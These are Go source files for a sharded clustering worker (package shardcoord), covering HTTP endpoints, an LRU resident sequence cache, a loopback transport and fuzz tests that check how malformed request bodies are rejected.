// shapes skip the banded DP entirely, for partition clustering and reduce
// sweeps alike. Pair it with contentcache.Load / Save
// (pipeline.CacheCodecs) to keep the warm verdicts across restarts.
func WithWorkerCache(c *contentcache.Cache) WorkerOption {
	return func(w *Worker) { w.cache = c }
}

// WithWorkerResidentBudget bounds a digest→sequence resident set (bytes;
// 0 or negative disables it) and thereby enables the digest-first edge
// protocol: every partition the worker clusters and every edge fill it
// receives is kept addressable by content key, LRU-evicted within the
// budget, so subsequent /edges3 requests ship keys instead of sequence
// bytes. Purely an economics knob — a disabled or cold resident set makes
// the coordinator fall back to shipping everything, never changes output.
func WithWorkerResidentBudget(bytes int) WorkerOption {
	return func(w *Worker) {
		if bytes > 0 {
			w.resident = newResidentSet(int64(bytes))
		} else {
			w.resident = nil
		}
	}
}

// NewWorker builds a shard worker.
func NewWorker(opts ...WorkerOption) *Worker {
	w := &Worker{workers: runtime.GOMAXPROCS(0)}
	for _, opt := range opts {
		opt(w)
	}
	return w
}

// Cache returns the worker's verdict cache (nil when not configured), so
// the owning process can persist it on shutdown.
func (w *Worker) Cache() *contentcache.Cache { return w.cache }

// validateSeqs rejects wire sequences carrying symbols outside the named
// ingest profile's abstraction alphabet — untrusted data that a
// pre-profile kernel would have indexed past its histogram arenas with.
// An empty profile name is the historical wire form and means js; an
// unknown name is a hard error (the worker cannot bound the alphabet).
func validateSeqs(seqs [][]jstoken.Symbol, profile string) error {
	p := ingest.Default()
	if profile != "" {
		var ok bool
		if p, ok = ingest.Lookup(profile); !ok {
			return fmt.Errorf("shardcoord: unknown ingest profile %q", profile)
		}
	}
	space := jstoken.Symbol(p.SymbolSpace())
	for i, seq := range seqs {
		for _, sym := range seq {
			if sym >= space {
				return fmt.Errorf("shardcoord: sequence %d carries symbol %d outside the %s alphabet (%d)", i, sym, p.ID(), space)
			}
		}
	}
	return nil
}

// Cluster executes one partition request locally — the computation behind
// POST /partition.
func (w *Worker) Cluster(req *PartitionRequest) (*PartitionResponse, error) {
	if len(req.Partition.Seqs) != len(req.Partition.Weights) {
		return nil, fmt.Errorf("shardcoord: %d sequences with %d weights",
			len(req.Partition.Seqs), len(req.Partition.Weights))
	}
	if err := validateSeqs(req.Partition.Seqs, req.Profile); err != nil {
		return nil, err
	}
	cfg := pipeline.Config{
		Eps:     req.Eps,
		MinPts:  req.MinPts,
		Workers: w.workers,
		Cache:   w.cache,
	}
	if w.resident != nil {
		// Grow the resident set: every sequence this worker clusters stays
		// addressable by content key, so later digest-first sweeps over the
		// partition's representatives and noise ship keys, not bytes. The
		// keys are recomputed here — the coordinator's copy never rides the
		// wire, and wire data is untrusted anyway.
		for _, seq := range req.Partition.Seqs {
			w.resident.put(pipeline.SeqKeyOf(seq), seq)
		}
	}
	clusters := pipeline.ClusterPartition(req.Partition, cfg)
	if req.PreReduce {
		// The coordinator consumes only the summary when it asked for
		// pre-reduce; shipping the raw clusters alongside would double the
		// response payload for no reader.
		reduced := pipeline.PreReducePartition(req.Partition, clusters, cfg)
		return &PartitionResponse{Reduced: &reduced}, nil
	}
	return &PartitionResponse{ShardClusters: clusters}, nil
}

// Edges executes one distance-sweep request locally — the computation
// behind POST /edges.
func (w *Worker) Edges(req *EdgeRequest) (*EdgeResponse, error) {
	if err := validateSeqs(req.Job.Seqs, req.Profile); err != nil {
		return nil, err
	}
	if w.resident != nil {
		// A v2 sweep still feeds the resident set: fleets mixing v2 and v3
		// coordinators warm the same cache.
		for _, seq := range req.Job.Seqs {
			w.resident.put(pipeline.SeqKeyOf(seq), seq)
		}
	}
	list, err := pipeline.SweepEdges(req.Job, w.workers, w.cache)
	if err != nil {
		return nil, fmt.Errorf("shardcoord: %w", err)
	}
	return &EdgeResponse{EdgeList: list}, nil
}

// EdgesV3 executes one digest-first distance sweep — the computation
// behind POST /edges3. Fills are verified against their declared keys
// (wire data is untrusted; a mismatched fill is a hard 400, because a
// silently accepted one would poison every later request that resolves
// the key), resident keys are resolved locally, and unresolvable keys
// come back in Missing without running the sweep.
func (w *Worker) EdgesV3(req *EdgeRequestV3) (*EdgeResponseV3, error) {
	if w.resident == nil {
		return nil, errResidentDisabled
	}
	if len(req.FillAt) != len(req.Fill) {
		return nil, fmt.Errorf("shardcoord: %d fill positions with %d fills", len(req.FillAt), len(req.Fill))
	}
	if err := validateSeqs(req.Fill, req.Profile); err != nil {
		return nil, err
	}
	seqs := make([][]jstoken.Symbol, len(req.Keys))
	filled := make([]bool, len(req.Keys))
	for i, at := range req.FillAt {
		if at < 0 || at >= len(req.Keys) {
			return nil, fmt.Errorf("shardcoord: fill position %d outside [0,%d)", at, len(req.Keys))
		}
		if filled[at] {
			return nil, fmt.Errorf("shardcoord: fill position %d sent twice", at)
		}
		if got := pipeline.SeqKeyOf(req.Fill[i]); got != req.Keys[at] {
			return nil, fmt.Errorf("shardcoord: fill %d does not match its declared key", i)
		}
		seqs[at] = req.Fill[i]
		filled[at] = true
	}
	var missing []int
	for i, key := range req.Keys {
		if filled[i] {
			continue
		}
		seq, ok := w.resident.get(key)
		if !ok {
			missing = append(missing, i)
			continue
		}
		seqs[i] = seq
	}
	// Fills stick regardless of outcome, so a refill round (and every
	// later sweep) finds them resident. Installed after resolution: an
	// install-order eviction must never knock out a fill this same request
	// depends on.
	for i, at := range req.FillAt {
		w.resident.put(req.Keys[at], req.Fill[i])
	}
	if len(missing) > 0 {
		return &EdgeResponseV3{Missing: missing}, nil
	}
	job := pipeline.EdgeJob{Eps: req.Eps, Seqs: seqs, Rows: req.Rows, Cols: req.Cols}
	list, err := pipeline.SweepEdges(job, w.workers, w.cache)
	if err != nil {
		return nil, fmt.Errorf("shardcoord: %w", err)
	}
	return &EdgeResponseV3{EdgeList: list}, nil
}

// errResidentDisabled marks a v3 request against a worker running without
// a resident set; the HTTP layer answers 404, which coordinators read as
// the capability miss it is.
var errResidentDisabled = errors.New("shardcoord: digest-first edges require a resident set (WithWorkerResidentBudget)")

// Handler serves the worker over HTTP:
//
//	POST /partition — cluster one PartitionRequest, respond PartitionResponse
//	POST /edges     — run one EdgeRequest distance sweep, respond EdgeResponse
//	POST /edges3    — run one digest-first EdgeRequestV3 sweep (only with a
//	                  resident set; absent otherwise, so coordinators read
//	                  the 404 as a capability miss and fall back to v2)
//	GET  /healthz   — liveness plus cache and resident-set occupancy
func (w *Worker) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/partition", w.servePartition)
	mux.HandleFunc("/edges", w.serveEdges)
	if w.resident != nil {
		mux.HandleFunc("/edges3", w.serveEdgesV3)
	}
	mux.HandleFunc("/healthz", func(rw http.ResponseWriter, r *http.Request) {
		st := w.cache.Stats()
		fmt.Fprintf(rw, "ok cache-entries=%d cache-bytes=%d", st.Entries, st.Bytes)
		if w.resident != nil {
			entries, bytes := w.resident.stats()
			fmt.Fprintf(rw, " resident-entries=%d resident-bytes=%d", entries, bytes)
		}
		fmt.Fprintln(rw)
	})
	mux.Handle("/metrics", servemetrics.Handler(w.Metrics))
	return mux
}

// Metrics returns the worker's /metrics fields: work-unit counters by
// endpoint, work-unit latency, verdict-cache hit rates, and resident-set
// occupancy.
func (w *Worker) Metrics() map[string]any {
	st := w.cache.Stats()
	out := map[string]any{
		"partitions":       w.partitions.Load(),
		"edges":            w.edges.Load(),
		"edges3":           w.edgesV3.Load(),
		"work_latency":     w.workLat.Summary(),
		"cache_entries":    st.Entries,
		"cache_bytes":      st.Bytes,
		"cache_hits":       st.Hits,
		"cache_misses":     st.Misses,
		"cache_hit_rate":   st.HitRate(),
		"resident_enabled": w.resident != nil,
		"runtime":          servemetrics.RuntimeStats(),
	}
	if w.resident != nil {
		entries, bytes := w.resident.stats()
		out["resident_entries"] = entries
		out["resident_bytes"] = bytes
	}
	return out
}

// decodeBody decodes a capped JSON request body, translating oversized
// bodies into 413s.
func decodeBody(rw http.ResponseWriter, r *http.Request, v any) bool {
	if r.Method != http.MethodPost {
		http.Error(rw, "POST required", http.StatusMethodNotAllowed)
		return false
	}
	r.Body = http.MaxBytesReader(rw, r.Body, maxPartitionRequestBytes)
	if err := json.NewDecoder(r.Body).Decode(v); err != nil {
		status := http.StatusBadRequest
		var tooLarge *http.MaxBytesError
		if errors.As(err, &tooLarge) {
			status = http.StatusRequestEntityTooLarge
		}
		http.Error(rw, "bad request: "+err.Error(), status)
		return false
	}
	return true
}

func (w *Worker) servePartition(rw http.ResponseWriter, r *http.Request) {
	var req PartitionRequest
	if !decodeBody(rw, r, &req) {
		return
	}
	w.partitions.Add(1)
	start := time.Now()
	resp, err := w.Cluster(&req)
	w.workLat.Observe(time.Since(start))
	if err != nil {
		http.Error(rw, err.Error(), http.StatusBadRequest)
		return
	}
	writeJSON(rw, resp)
}

func (w *Worker) serveEdges(rw http.ResponseWriter, r *http.Request) {
	var req EdgeRequest
	if !decodeBody(rw, r, &req) {
		return
	}
	w.edges.Add(1)
	start := time.Now()
	resp, err := w.Edges(&req)
	w.workLat.Observe(time.Since(start))
	if err != nil {
		http.Error(rw, err.Error(), http.StatusBadRequest)
		return
	}
	writeJSON(rw, resp)
}

func (w *Worker) serveEdgesV3(rw http.ResponseWriter, r *http.Request) {
	var req EdgeRequestV3
	if !decodeBody(rw, r, &req) {
		return
	}
	w.edgesV3.Add(1)
	start := time.Now()
	resp, err := w.EdgesV3(&req)
	w.workLat.Observe(time.Since(start))
	if err != nil {
		http.Error(rw, err.Error(), http.StatusBadRequest)
		return
	}
	writeJSON(rw, resp)
}

func writeJSON(rw http.ResponseWriter, v any) {
	rw.Header().Set("Content-Type", "application/json")
	// An encode failure means headers already went out; the coordinator
	// sees a truncated body and retries on another shard.
	_ = json.NewEncoder(rw).Encode(v)
}
