package shardcoord

import (
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"runtime"

	"kizzle/internal/contentcache"
	"kizzle/internal/jstoken"
	"kizzle/internal/pipeline"
)

// maxPartitionRequestBytes caps one /partition request body. A partition
// carries abstract symbol sequences only (two bytes per symbol before JSON
// framing), so 64 MiB covers partitions far beyond the default 300-unique
// target.
const maxPartitionRequestBytes = 64 << 20

// PartitionRequest is the wire form of one clustering work unit: the
// partition plus the two DBSCAN parameters the coordinator resolved. The
// worker contributes its own parallelism and cache.
type PartitionRequest struct {
	Eps       float64                 `json:"eps"`
	MinPts    int                     `json:"minPts"`
	Partition pipeline.ShardPartition `json:"partition"`
}

// PartitionResponse is the wire form of a partition's clustering result,
// in partition-local indices.
type PartitionResponse struct {
	pipeline.ShardClusters
}

// Worker executes clustering partitions. It is safe for concurrent use;
// each request clusters independently (the shared pair-verdict cache is
// internally synchronized).
type Worker struct {
	workers int
	cache   *contentcache.Cache
}

// WorkerOption configures a Worker.
type WorkerOption func(*Worker)

// WithWorkerParallelism sets how many goroutines one partition's distance
// sweep fans out across (default GOMAXPROCS). Production shards on
// dedicated machines keep the default; the loopback benchmark sets 1 so a
// worker models one machine core.
func WithWorkerParallelism(n int) WorkerOption {
	return func(w *Worker) { w.workers = n }
}

// WithWorkerCache gives the worker a content-addressed cache for pair
// within-eps verdicts, carried across requests — day N+1's recurring
// shapes skip the banded DP entirely. Pair it with contentcache.Load /
// Save (pipeline.CacheCodecs) to keep the warm verdicts across restarts.
func WithWorkerCache(c *contentcache.Cache) WorkerOption {
	return func(w *Worker) { w.cache = c }
}

// NewWorker builds a shard worker.
func NewWorker(opts ...WorkerOption) *Worker {
	w := &Worker{workers: runtime.GOMAXPROCS(0)}
	for _, opt := range opts {
		opt(w)
	}
	return w
}

// Cache returns the worker's verdict cache (nil when not configured), so
// the owning process can persist it on shutdown.
func (w *Worker) Cache() *contentcache.Cache { return w.cache }

// Cluster executes one partition request locally — the computation behind
// POST /partition.
func (w *Worker) Cluster(req *PartitionRequest) (*PartitionResponse, error) {
	if len(req.Partition.Seqs) != len(req.Partition.Weights) {
		return nil, fmt.Errorf("shardcoord: %d sequences with %d weights",
			len(req.Partition.Seqs), len(req.Partition.Weights))
	}
	// Wire data is untrusted: a symbol outside the abstraction alphabet
	// would index past the clustering kernel's histogram arenas.
	space := jstoken.Symbol(jstoken.SymbolSpace())
	for i, seq := range req.Partition.Seqs {
		for _, sym := range seq {
			if sym >= space {
				return nil, fmt.Errorf("shardcoord: sequence %d carries symbol %d outside the alphabet (%d)", i, sym, space)
			}
		}
	}
	cfg := pipeline.Config{
		Eps:     req.Eps,
		MinPts:  req.MinPts,
		Workers: w.workers,
		Cache:   w.cache,
	}
	return &PartitionResponse{ShardClusters: pipeline.ClusterPartition(req.Partition, cfg)}, nil
}

// Handler serves the worker over HTTP:
//
//	POST /partition — cluster one PartitionRequest, respond PartitionResponse
//	GET  /healthz   — liveness plus cache occupancy
func (w *Worker) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/partition", w.servePartition)
	mux.HandleFunc("/healthz", func(rw http.ResponseWriter, r *http.Request) {
		st := w.cache.Stats()
		fmt.Fprintf(rw, "ok cache-entries=%d cache-bytes=%d\n", st.Entries, st.Bytes)
	})
	return mux
}

func (w *Worker) servePartition(rw http.ResponseWriter, r *http.Request) {
	if r.Method != http.MethodPost {
		http.Error(rw, "POST required", http.StatusMethodNotAllowed)
		return
	}
	r.Body = http.MaxBytesReader(rw, r.Body, maxPartitionRequestBytes)
	var req PartitionRequest
	if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
		status := http.StatusBadRequest
		var tooLarge *http.MaxBytesError
		if errors.As(err, &tooLarge) {
			status = http.StatusRequestEntityTooLarge
		}
		http.Error(rw, "bad request: "+err.Error(), status)
		return
	}
	resp, err := w.Cluster(&req)
	if err != nil {
		http.Error(rw, err.Error(), http.StatusBadRequest)
		return
	}
	rw.Header().Set("Content-Type", "application/json")
	if err := json.NewEncoder(rw).Encode(resp); err != nil {
		// Headers already sent; the coordinator sees a truncated body and
		// retries on another shard.
		return
	}
}
