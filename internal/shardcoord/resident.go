package shardcoord

import (
	"container/list"
	"sync"

	"kizzle/internal/jstoken"
	"kizzle/internal/pipeline"
)

// residentSet is a worker's bounded digest→sequence store: the content-
// addressed half of the wire cache. Partitions the worker clusters and
// fills it receives on /edges3 are installed; digest-first edge requests
// resolve against it. Eviction is LRU within a byte budget, so the set
// tracks the working set the coordinator keeps routing here. Everything
// in it arrived validated (symbols inside the alphabet, key verified
// against content), so resolved sequences re-enter sweeps without
// re-validation.
type residentSet struct {
	mu    sync.Mutex
	max   int64
	bytes int64
	ll    *list.List // front = most recently used
	items map[pipeline.SeqKey]*list.Element
}

// residentEntry is one resident sequence with its key (needed to delete
// the index entry on eviction).
type residentEntry struct {
	key pipeline.SeqKey
	seq []jstoken.Symbol
}

// residentEntryOverhead approximates per-entry bookkeeping (map bucket,
// list element, slice header) on top of the packed sequence bytes.
const residentEntryOverhead = 96

func newResidentSet(maxBytes int64) *residentSet {
	return &residentSet{
		max:   maxBytes,
		ll:    list.New(),
		items: make(map[pipeline.SeqKey]*list.Element),
	}
}

func residentCost(key pipeline.SeqKey) int64 {
	return int64(key.WireBytes()) + residentEntryOverhead
}

// get resolves a key and marks it most recently used.
func (r *residentSet) get(key pipeline.SeqKey) ([]jstoken.Symbol, bool) {
	r.mu.Lock()
	defer r.mu.Unlock()
	el, ok := r.items[key]
	if !ok {
		return nil, false
	}
	r.ll.MoveToFront(el)
	return el.Value.(*residentEntry).seq, true
}

// put installs (or refreshes) a sequence, evicting least-recently-used
// entries until the budget holds. A sequence alone exceeding the budget
// is not installed — thrashing the whole set for one giant entry would
// evict the working set the budget exists to protect.
func (r *residentSet) put(key pipeline.SeqKey, seq []jstoken.Symbol) {
	cost := residentCost(key)
	if cost > r.max {
		return
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	if el, ok := r.items[key]; ok {
		r.ll.MoveToFront(el)
		el.Value.(*residentEntry).seq = seq
		return
	}
	r.items[key] = r.ll.PushFront(&residentEntry{key: key, seq: seq})
	r.bytes += cost
	for r.bytes > r.max {
		back := r.ll.Back()
		if back == nil {
			break
		}
		r.ll.Remove(back)
		e := back.Value.(*residentEntry)
		delete(r.items, e.key)
		r.bytes -= residentCost(e.key)
	}
}

// stats reports occupancy for /healthz.
func (r *residentSet) stats() (entries int, bytes int64) {
	r.mu.Lock()
	defer r.mu.Unlock()
	return len(r.items), r.bytes
}
