package shardcoord

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync/atomic"
	"time"
)

// HTTPTransport dispatches partition requests to shard workers over HTTP
// (each URL is one worker's base address, e.g. "http://shard-3:9191").
type HTTPTransport struct {
	urls   []string
	client *http.Client
	// Cumulative request+response body bytes of successful round trips —
	// total and the /edges (v2+v3) share. The numbers the affinity wire
	// cache is judged by.
	wireTotal atomic.Int64
	wireEdges atomic.Int64
}

// defaultPartitionTimeout bounds one partition request on the default
// client. Without it a worker that accepts the connection but never
// responds would block its shard queue forever — failover only triggers
// on a returned error. Generous, because a large partition legitimately
// takes a while on a loaded worker.
const defaultPartitionTimeout = 5 * time.Minute

// NewHTTPTransport builds a transport over worker base URLs. client may
// be nil for a default client with a 5-minute per-request timeout (pass
// an explicit client to change it; a zero-timeout client reintroduces
// the hung-worker hazard).
func NewHTTPTransport(urls []string, client *http.Client) *HTTPTransport {
	if client == nil {
		client = &http.Client{Timeout: defaultPartitionTimeout}
	}
	trimmed := make([]string, len(urls))
	for i, u := range urls {
		trimmed[i] = strings.TrimRight(u, "/")
	}
	return &HTTPTransport{urls: trimmed, client: client}
}

// Shards reports the number of configured workers.
func (t *HTTPTransport) Shards() int { return len(t.urls) }

// Partition POSTs the request to the shard's /partition endpoint.
func (t *HTTPTransport) Partition(ctx context.Context, shard int, req *PartitionRequest) (*PartitionResponse, error) {
	var resp PartitionResponse
	if err := t.post(ctx, shard, "/partition", req, &resp); err != nil {
		return nil, err
	}
	return &resp, nil
}

// Edges POSTs the request to the shard's /edges endpoint. A 404 or 405 —
// a worker binary predating protocol v2 — comes back as ErrUnsupported so
// the coordinator runs the sweep itself instead of failing over.
func (t *HTTPTransport) Edges(ctx context.Context, shard int, req *EdgeRequest) (*EdgeResponse, error) {
	var resp EdgeResponse
	if err := t.post(ctx, shard, "/edges", req, &resp); err != nil {
		return nil, err
	}
	return &resp, nil
}

// EdgesV3 POSTs a digest-first sweep to the shard's /edges3 endpoint. A
// 404 or 405 — a worker without a resident set, or a binary predating
// protocol v3 — comes back as ErrUnsupported so the coordinator repeats
// the job over plain /edges (the same capability dance v2 introduced).
func (t *HTTPTransport) EdgesV3(ctx context.Context, shard int, req *EdgeRequestV3) (*EdgeResponseV3, error) {
	var resp EdgeResponseV3
	if err := t.post(ctx, shard, "/edges3", req, &resp); err != nil {
		return nil, err
	}
	return &resp, nil
}

// WireBytes reports cumulative request+response body bytes over all
// successful round trips: total, and the /edges+/edges3 share.
func (t *HTTPTransport) WireBytes() (total, edges int64) {
	return t.wireTotal.Load(), t.wireEdges.Load()
}

// post runs one JSON request/response round trip against a shard.
func (t *HTTPTransport) post(ctx context.Context, shard int, path string, req, resp any) error {
	body, err := json.Marshal(req)
	if err != nil {
		return fmt.Errorf("encode %s: %w", path, err)
	}
	hreq, err := http.NewRequestWithContext(ctx, http.MethodPost,
		t.urls[shard%len(t.urls)]+path, bytes.NewReader(body))
	if err != nil {
		return err
	}
	hreq.Header.Set("Content-Type", "application/json")
	hresp, err := t.client.Do(hreq)
	if err != nil {
		return err
	}
	defer hresp.Body.Close()
	edgePath := path == "/edges" || path == "/edges3"
	if edgePath && (hresp.StatusCode == http.StatusNotFound || hresp.StatusCode == http.StatusMethodNotAllowed) {
		// Only the edge endpoints postdate protocol v1, so only there does
		// a 404/405 mean "capability missing" (→ ErrUnsupported: v3 retries
		// over v2, v2 falls back coordinator-side). Every worker version
		// serves /partition; a 404 on it is a misconfigured URL and falls
		// through to the plain error.
		io.Copy(io.Discard, io.LimitReader(hresp.Body, 512))
		return fmt.Errorf("shard %s %s: %w", path, hresp.Status, ErrUnsupported)
	}
	if hresp.StatusCode != http.StatusOK {
		msg, _ := io.ReadAll(io.LimitReader(hresp.Body, 512))
		return fmt.Errorf("shard returned %s: %s", hresp.Status, strings.TrimSpace(string(msg)))
	}
	respBody, err := io.ReadAll(hresp.Body)
	if err != nil {
		return fmt.Errorf("read %s response: %w", path, err)
	}
	if err := json.Unmarshal(respBody, resp); err != nil {
		return fmt.Errorf("decode %s response: %w", path, err)
	}
	// Count only completed round trips: the wire metric compares protocol
	// economics, and a failed attempt retries through the same accounting.
	t.wireTotal.Add(int64(len(body) + len(respBody)))
	if edgePath {
		t.wireEdges.Add(int64(len(body) + len(respBody)))
	}
	return nil
}

// NewLoopback builds a transport over in-process workers that still runs
// the complete HTTP path — request marshalling, the worker's ServeHTTP
// (body cap included), response unmarshalling — without opening sockets.
// It is the `go test` / benchmark stand-in for a real worker fleet.
func NewLoopback(workers []*Worker) *HTTPTransport {
	handlers := make(map[string]http.Handler, len(workers))
	urls := make([]string, len(workers))
	for i, w := range workers {
		host := fmt.Sprintf("shard-%d.loopback", i)
		handlers[host] = w.Handler()
		urls[i] = "http://" + host
	}
	return NewHTTPTransport(urls, &http.Client{Transport: handlerRoundTripper{handlers: handlers}})
}

// handlerRoundTripper serves http.Client requests directly from in-process
// handlers, keyed by host.
type handlerRoundTripper struct {
	handlers map[string]http.Handler
}

func (rt handlerRoundTripper) RoundTrip(r *http.Request) (*http.Response, error) {
	h, ok := rt.handlers[r.URL.Host]
	if !ok {
		return nil, fmt.Errorf("loopback: unknown host %q", r.URL.Host)
	}
	rec := &recordedResponse{header: make(http.Header), code: http.StatusOK}
	h.ServeHTTP(rec, r)
	return &http.Response{
		Status:        fmt.Sprintf("%d %s", rec.code, http.StatusText(rec.code)),
		StatusCode:    rec.code,
		Proto:         r.Proto,
		ProtoMajor:    r.ProtoMajor,
		ProtoMinor:    r.ProtoMinor,
		Header:        rec.header,
		Body:          io.NopCloser(bytes.NewReader(rec.body.Bytes())),
		ContentLength: int64(rec.body.Len()),
		Request:       r,
	}, nil
}

// recordedResponse is a minimal in-memory http.ResponseWriter.
type recordedResponse struct {
	header http.Header
	code   int
	body   bytes.Buffer
}

func (r *recordedResponse) Header() http.Header         { return r.header }
func (r *recordedResponse) WriteHeader(code int)        { r.code = code }
func (r *recordedResponse) Write(p []byte) (int, error) { return r.body.Write(p) }
