package shardcoord

import (
	"encoding/json"
	"net/http"
	"strings"
	"testing"

	"kizzle/internal/contentcache"
	"kizzle/internal/pipeline"
)

// The worker's HTTP surface parses coordinator-supplied JSON into symbol
// sequences and index lists — untrusted input on a network port. These
// fuzzers drive raw bodies through the full handler path (decode,
// validation, execution) and require that malformed input is rejected
// with an error status, never a panic or an out-of-bounds index into the
// clustering kernels.

func fuzzClient(tb testing.TB, opts ...WorkerOption) *http.Client {
	tb.Helper()
	opts = append([]WorkerOption{WithWorkerParallelism(1), WithWorkerCache(contentcache.New(1 << 20))}, opts...)
	w := NewWorker(opts...)
	return &http.Client{Transport: handlerRoundTripper{
		handlers: map[string]http.Handler{"w.loopback": w.Handler()},
	}}
}

func fuzzPost(tb testing.TB, client *http.Client, path string, body []byte) {
	tb.Helper()
	resp, err := client.Post("http://w.loopback"+path, "application/json", strings.NewReader(string(body)))
	if err != nil {
		tb.Fatalf("handler round trip failed: %v", err)
	}
	defer resp.Body.Close()
	switch resp.StatusCode {
	case http.StatusOK, http.StatusBadRequest, http.StatusRequestEntityTooLarge:
	default:
		tb.Fatalf("unexpected status %d for %s", resp.StatusCode, path)
	}
	if resp.StatusCode == http.StatusOK {
		// A success must carry a decodable response.
		var v json.RawMessage
		if err := json.NewDecoder(resp.Body).Decode(&v); err != nil {
			tb.Fatalf("200 response does not decode: %v", err)
		}
	}
}

// FuzzWorkerPartition fuzzes POST /partition wire-sequence validation.
func FuzzWorkerPartition(f *testing.F) {
	f.Add([]byte(`{"eps":0.1,"minPts":2,"partition":{"seqs":[[1,2,3],[1,2,3]],"weights":[1,2]}}`))
	f.Add([]byte(`{"eps":0.1,"minPts":2,"partition":{"seqs":[[1,2]],"weights":[1,2]}}`))
	f.Add([]byte(`{"eps":0.1,"minPts":2,"preReduce":true,"partition":{"seqs":[[9,9],[9,9],[60000]],"weights":[1,1,1]}}`))
	f.Add([]byte(`{"partition":{"seqs":[[]],"weights":[0]}}`))
	f.Add([]byte(`{not json`))
	client := fuzzClient(f)
	f.Fuzz(func(t *testing.T, body []byte) {
		if len(body) > 1<<16 {
			t.Skip("oversized fuzz input")
		}
		fuzzPost(t, client, "/partition", body)
	})
}

// FuzzWorkerEdges fuzzes POST /edges wire-sequence validation, including
// the packed base64 sequence decoding.
func FuzzWorkerEdges(f *testing.F) {
	valid, _ := json.Marshal(&EdgeRequest{Job: pipeline.EdgeJob{
		Eps:  0.5,
		Seqs: pipeline.PackedSeqs(seqsOf("abcd", "abce", "zz")),
		Rows: []int{0, 1, 2},
	}})
	f.Add(valid)
	f.Add([]byte(`{"job":{"eps":0.5,"seqs":["QUJD"],"rows":[0]}}`))       // odd packed length
	f.Add([]byte(`{"job":{"eps":0.5,"seqs":["//8="],"rows":[0]}}`))       // out-of-alphabet symbol
	f.Add([]byte(`{"job":{"eps":0.5,"seqs":[],"rows":[7],"cols":[-1]}}`)) // bad indices
	f.Add([]byte(`{"job":{"eps":-3,"seqs":[],"rows":[]}}`))
	client := fuzzClient(f)
	f.Fuzz(func(t *testing.T, body []byte) {
		if len(body) > 1<<16 {
			t.Skip("oversized fuzz input")
		}
		fuzzPost(t, client, "/edges", body)
	})
}

// FuzzWorkerEdgesV3 fuzzes POST /edges3 — the digest-first wire's
// decoding and fill validation: base64 key parsing, fill/position
// alignment, duplicate and out-of-range fill positions, and the
// fill-must-hash-to-its-key check. The worker runs with a resident set
// (the endpoint does not exist without one), so resident resolution and
// the Missing answer are inside the fuzzed surface too.
func FuzzWorkerEdgesV3(f *testing.F) {
	seqs := seqsOf("abcd", "abce", "zz")
	keys := make([]pipeline.SeqKey, len(seqs))
	for i, s := range seqs {
		keys[i] = pipeline.SeqKeyOf(s)
	}
	valid, _ := json.Marshal(&EdgeRequestV3{
		Eps: 0.5, Keys: keys, FillAt: []int{0, 1, 2}, Fill: seqs, Rows: []int{0, 1, 2},
	})
	f.Add(valid)
	digestOnly, _ := json.Marshal(&EdgeRequestV3{Eps: 0.5, Keys: keys, Rows: []int{0, 1, 2}})
	f.Add(digestOnly) // unresolved keys: the Missing answer, not an error
	truncated, _ := json.Marshal(&EdgeRequestV3{
		Eps: 0.5, Keys: keys, FillAt: []int{0, 1, 2}, Fill: seqs[:1], Rows: []int{0, 1, 2},
	})
	f.Add(truncated) // fewer fills than positions
	duplicate, _ := json.Marshal(&EdgeRequestV3{
		Eps: 0.5, Keys: keys, FillAt: []int{0, 0, 1}, Fill: seqs, Rows: []int{0, 1, 2},
	})
	f.Add(duplicate) // same position filled twice
	mismatched, _ := json.Marshal(&EdgeRequestV3{
		Eps: 0.5, Keys: keys, FillAt: []int{0}, Fill: seqs[2:], Rows: []int{0, 1, 2},
	})
	f.Add(mismatched)                                       // fill does not hash to its declared key
	f.Add([]byte(`{"eps":0.5,"keys":["AAAA"],"rows":[0]}`)) // truncated key (not 20 raw bytes)
	f.Add([]byte(`{"eps":0.5,"keys":["!!!"],"rows":[0]}`))  // invalid base64 key
	f.Add([]byte(`{"eps":0.5,"keys":[],"fillAt":[5],"fill":["QUJD"],"rows":[]}`))
	f.Add([]byte(`{"eps":0.5,"keys":[],"rows":[3],"cols":[-1]}`)) // bad sweep indices
	f.Add([]byte(`{not json`))
	client := fuzzClient(f, WithWorkerResidentBudget(1<<20))
	f.Fuzz(func(t *testing.T, body []byte) {
		if len(body) > 1<<16 {
			t.Skip("oversized fuzz input")
		}
		fuzzPost(t, client, "/edges3", body)
	})
}
