package shardcoord

import (
	"encoding/json"
	"net/http"
	"strings"
	"testing"

	"kizzle/internal/contentcache"
	"kizzle/internal/pipeline"
)

// The worker's HTTP surface parses coordinator-supplied JSON into symbol
// sequences and index lists — untrusted input on a network port. These
// fuzzers drive raw bodies through the full handler path (decode,
// validation, execution) and require that malformed input is rejected
// with an error status, never a panic or an out-of-bounds index into the
// clustering kernels.

func fuzzClient(tb testing.TB) *http.Client {
	tb.Helper()
	w := NewWorker(WithWorkerParallelism(1), WithWorkerCache(contentcache.New(1<<20)))
	return &http.Client{Transport: handlerRoundTripper{
		handlers: map[string]http.Handler{"w.loopback": w.Handler()},
	}}
}

func fuzzPost(tb testing.TB, client *http.Client, path string, body []byte) {
	tb.Helper()
	resp, err := client.Post("http://w.loopback"+path, "application/json", strings.NewReader(string(body)))
	if err != nil {
		tb.Fatalf("handler round trip failed: %v", err)
	}
	defer resp.Body.Close()
	switch resp.StatusCode {
	case http.StatusOK, http.StatusBadRequest, http.StatusRequestEntityTooLarge:
	default:
		tb.Fatalf("unexpected status %d for %s", resp.StatusCode, path)
	}
	if resp.StatusCode == http.StatusOK {
		// A success must carry a decodable response.
		var v json.RawMessage
		if err := json.NewDecoder(resp.Body).Decode(&v); err != nil {
			tb.Fatalf("200 response does not decode: %v", err)
		}
	}
}

// FuzzWorkerPartition fuzzes POST /partition wire-sequence validation.
func FuzzWorkerPartition(f *testing.F) {
	f.Add([]byte(`{"eps":0.1,"minPts":2,"partition":{"seqs":[[1,2,3],[1,2,3]],"weights":[1,2]}}`))
	f.Add([]byte(`{"eps":0.1,"minPts":2,"partition":{"seqs":[[1,2]],"weights":[1,2]}}`))
	f.Add([]byte(`{"eps":0.1,"minPts":2,"preReduce":true,"partition":{"seqs":[[9,9],[9,9],[60000]],"weights":[1,1,1]}}`))
	f.Add([]byte(`{"partition":{"seqs":[[]],"weights":[0]}}`))
	f.Add([]byte(`{not json`))
	client := fuzzClient(f)
